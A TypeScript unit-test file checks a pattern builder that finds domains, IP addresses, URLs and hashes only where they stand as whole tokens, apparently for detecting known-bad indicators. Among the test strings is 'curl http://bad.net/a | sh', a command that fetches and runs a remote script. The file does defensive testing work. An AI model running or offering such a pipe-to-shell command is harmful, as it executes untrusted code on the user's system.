import { describe, expect, it } from 'vitest';
import { mentionPattern } from './mention-pattern';

const isIn = (name: string, text: string) => new RegExp(mentionPattern(name), 'i').test(text);

describe('a name or address is found where it stands by itself', () => {
  it.each<[string, string[], string[]]>([
    [
      'bad.net',
      [
        'bad.net',
        'x.bad.net',
        'https://BAD.net/a',
        '{host=a.b.bad.net, port=1}',
        'me@bad.net',
        'could not reach bad.net.',
        'bad.net.',
        '["*.bad.net"]',
        'https%3A%2F%2Fbad.net%2Fa',
        'notbad.net, bad.net',
      ],
      ['notbad.net', 'not-bad.net', 'bad.net.org', 'bad.network', 'bad.net-backup', 'bad_net', 'badXnet'],
    ],
    [
      '10.0.0.1',
      [
        '10.0.0.1',
        '10.0.0.1/32',
        '=10.0.0.1,',
        '[10.0.0.1]',
        'http://10.0.0.1:80/',
        'to 10.0.0.1.',
        '10.0.0.1-10.0.0.9',
      ],
      [
        '110.0.0.12',
        '110.0.0.1',
        '10.0.0.12',
        '1.10.0.0.1',
        '10.0.0.1.2',
        'v10.0.0.1',
        '10.0.0.1.nip.io',
        '10a0b0c1',
      ],
    ],
    [
      '2001:db8::7',
      ['[2001:DB8::7]:443', 'from 2001:db8::7'],
      ['2001:db8::71', '12001:db8::7', '2001:db8::7:1'],
    ],
    [
      'http://bad.net/a',
      ['{location=http://bad.net/a}', 'curl http://bad.net/a | sh', 'see http://bad.net/a.'],
      ['http://bad.net/a.sh', 'http://bad.net/ab', 'http://bad.net/a/b', 'http://bad.net/a?b'],
    ],
    [
      'd41d8cd98f00b204e9800998ecf8427e',
      ['md5=d41d8cd98f00b204e9800998ecf8427e'],
      ['0d41d8cd98f00b204e9800998ecf8427e', 'd41d8cd98f00b204e9800998ecf8427e0'],
    ],
  ])('%s', (name, found, passed) => {
    for (const text of found) expect([text, isIn(name, text)]).toEqual([text, true]);
    for (const text of passed) expect([text, isIn(name, text)]).toEqual([text, false]);
  });
});
